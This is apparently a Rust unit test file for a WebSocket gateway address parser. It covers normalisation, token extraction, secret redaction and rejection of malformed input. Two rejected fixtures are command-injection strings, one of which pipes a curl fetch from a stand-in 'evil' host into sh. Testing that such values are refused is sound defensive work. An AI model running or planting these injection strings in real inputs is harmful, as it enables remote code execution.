use super::*;

fn read(typed: &str) -> Address {
    parse(typed, GatewayId::parse).expect(typed)
}

fn fix(typed: &str) -> Option<Fix> {
    parse(typed, GatewayId::parse).expect_err(typed).fix
}

#[test]
fn websocket_addresses_are_taken_as_they_are() {
    for (typed, shown) in [
        ("ws://127.0.0.1:18789", "ws://127.0.0.1:18789"),
        (
            "  wss://Gate.Example/claw?x=1 ",
            "wss://gate.example/claw?x=1",
        ),
        ("ws://[::1]:18789/gateway", "ws://[::1]:18789/gateway"),
        ("WS://host/", "ws://host/"),
        ("ws://host?x", "ws://host/?x"),
    ] {
        assert_eq!(read(typed).url(), shown);
    }
}

#[test]
fn a_page_address_is_repaired_with_the_token_of_a_dashboard_link() {
    assert_eq!(
        fix("http://127.0.0.1:18789/#token=a%20b"),
        Some(Fix {
            address: "ws://127.0.0.1:18789/".into(),
            token: Some("a b".into())
        })
    );
    assert_eq!(
        fix("https://gate.example").expect("a fix").address,
        "wss://gate.example"
    );
}

#[test]
fn a_missing_scheme_is_offered() {
    assert_eq!(
        fix("127.0.0.1:18789").expect("a fix").address,
        "ws://127.0.0.1:18789"
    );
    assert_eq!(
        fix("ws://ho st\u{7}:1").expect("a fix").address,
        "ws://host:1"
    );
    assert_eq!(
        fix("gate.example/ws").expect("a fix").address,
        "wss://gate.example/ws"
    );
}

#[test]
fn a_token_in_the_query_moves_to_its_own_field() {
    assert_eq!(
        fix("ws://host:1/?token=abc&v=4"),
        Some(Fix {
            address: "ws://host:1/?v=4".into(),
            token: Some("abc".into())
        })
    );
}

#[test]
fn nonsense_gets_a_message_and_no_fix() {
    for typed in [
        "",
        "ws://",
        "ws://:80",
        "ws://h:99999",
        "ws://h:0",
        "ftp://h",
        "ws://a@h",
        "ws://a b@h",
        "ws://x:1/;curl${IFS}evil|sh",
        "ws://x:1/`id`",
    ] {
        assert_eq!(fix(typed), None, "{typed}");
    }
    assert_eq!(fix(&"a".repeat(5_000)), None);
}

#[test]
fn only_loopback_may_be_plain_on_an_https_page() {
    assert!(read("ws://192.168.1.4:1").is_blocked_on_https());
    assert!(!read("ws://127.0.0.1:1").is_blocked_on_https());
    assert!(!read("ws://[::1]:1/x").is_blocked_on_https());
    assert!(!read("wss://192.168.1.4:1").is_blocked_on_https());
}

#[test]
fn an_address_is_shown_without_what_may_be_a_secret() {
    let address = read("ws://host:1/gateway/?ticket=secret");
    assert_eq!(address.to_string(), "ws://host:1/gateway");
    assert_eq!(address.origin(), "ws://host:1");
    assert_eq!(address.path(), "/gateway/");
    assert!(address.url().ends_with("?ticket=secret"));
}

#[test]
fn spellings_of_one_gateway_are_one_and_others_are_not() {
    for (one, other) in [
        ("ws://host", "ws://HOST:80/"),
        ("wss://host:443/claw", "wss://host/claw/"),
        ("ws://host/a?ticket=1", "ws://host/a?ticket=2"),
    ] {
        assert_eq!(read(one).id(), read(other).id(), "{one} {other}");
    }
    for (one, other) in [
        ("ws://host", "wss://host"),
        ("ws://host/a", "ws://host/b"),
        ("ws://host:1", "ws://host:18"),
    ] {
        assert_ne!(read(one).id(), read(other).id(), "{one} {other}");
    }
}

#[test]
fn a_link_may_have_the_address_of_the_gateways_page() {
    let of_link = |text| of_link(text, GatewayId::parse);
    let (address, token) = of_link("https://gate.example/claw#token=t").unwrap();
    assert_eq!(address.url(), "wss://gate.example/claw");
    assert_eq!(token.as_deref(), Some("t"));
    let (address, token) = of_link("ws://h:1/?ticket=7").unwrap();
    assert_eq!((address.url(), token), ("ws://h:1/?ticket=7", None));
    for odd in [
        "",
        "h:1",
        "gate.example",
        "ws://a b",
        "ftp://h",
        "ws://a@h",
        "ws%3A//h",
    ] {
        assert!(of_link(odd).is_err(), "{odd}");
    }
}
